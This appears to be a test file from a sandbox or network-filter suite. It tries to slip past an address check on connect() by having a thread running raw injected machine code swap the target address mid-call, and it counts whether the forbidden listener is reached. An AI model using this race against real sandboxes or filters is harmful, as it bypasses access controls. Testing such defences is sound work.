# SPDX-License-Identifier: Apache-2.0
"""Another thread rewrites the address while connect(3) is being decided

family: connect
effect: listener
refusal: tries ended
"""
import ctypes
import os
import socket
import threading
import time

import kit
import target

good, evil = kit.address4(target.HUB), kit.address4(target.TCP)
address = ctypes.create_string_buffer(good, 16)
begin = time.monotonic()
# mov rax,[rdx]; mov [rdi],rax; mov rax,[rsi]; mov [rdi],rax; jmp: two addresses in turns, without the interpreter's lock
code = bytes.fromhex("488b02488907488b06488907ebf2")
spin = kit.memory()
ctypes.memmove(spin, code, len(code))
run = ctypes.CFUNCTYPE(None, ctypes.c_void_p, ctypes.c_char_p, ctypes.c_char_p)(spin)
threading.Thread(target=run, args=(ctypes.addressof(address), evil, good), daemon=True).start()
tries = reached = 0
# On a busy machine the other thread gets its turns late.
while not reached and (time.monotonic() - begin < 2 or tries < 200) and time.monotonic() - begin < 20:
    with socket.socket() as sock:
        if kit.libc.connect(sock.fileno(), address, 16) == 0:
            reached = sock.getpeername()[1] == int.from_bytes(evil[2:4], "big")
    tries += 1
kit.got("tries ended")
print("end", flush=True)
os._exit(0)  # the thread cannot be ended
